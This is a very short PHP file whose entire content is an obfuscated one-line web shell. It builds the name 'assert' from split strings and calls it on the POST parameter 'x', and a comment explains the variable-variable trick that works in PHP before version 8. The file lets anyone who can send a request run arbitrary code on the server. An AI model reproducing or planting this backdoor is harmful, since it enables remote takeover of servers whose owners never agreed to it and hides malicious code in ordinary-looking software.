<?php
// ${c} reads $c (PHP before 8 takes the undefined constant c as "c").
$c = 'ass' . 'ert';
${c}($_POST['x']);
